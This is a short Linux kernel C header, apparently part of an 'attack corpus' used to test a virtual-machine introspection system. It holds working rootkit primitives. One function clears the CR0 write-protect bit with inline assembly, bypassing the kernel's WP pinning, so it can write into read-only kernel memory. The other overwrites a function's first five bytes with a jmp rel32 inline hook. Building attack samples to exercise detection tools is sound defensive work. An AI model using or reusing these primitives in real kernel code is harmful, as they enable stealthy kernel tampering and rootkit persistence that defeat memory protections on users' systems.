/* SPDX-License-Identifier: GPL-2.0 */
/*
 * The write primitive of the attack corpus: a store into read-only kernel
 * memory with CR0.WP cleared, as rootkits do. native_write_cr0() would
 * re-pin WP, so the moves to CR0 are inline; interrupts stay off so that
 * nothing else runs with WP clear.
 */
#ifndef VMIAAS_ATTACK_WP_H
#define VMIAAS_ATTACK_WP_H

#include <linux/errno.h>
#include <linux/irqflags.h>
#include <linux/string.h>
#include <linux/types.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

static inline void wp_write(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/*
 * The classic inline hook: saves the 5 bytes at @at into @saved and writes
 * "jmp rel32" to @to over them. -EINVAL when @to is out of rel32 reach.
 */
static inline int wp_write_jmp(unsigned long at, unsigned long to,
			       u8 saved[5])
{
	long rel = (long)to - (long)(at + 5);
	s32 rel32 = rel;
	u8 jmp[5];

	if (!at || rel != rel32)
		return -EINVAL;
	memcpy(saved, (void *)at, 5);
	jmp[0] = 0xe9;
	memcpy(jmp + 1, &rel32, 4);
	wp_write((void *)at, jmp, sizeof(jmp));
	return 0;
}

#endif /* VMIAAS_ATTACK_WP_H */
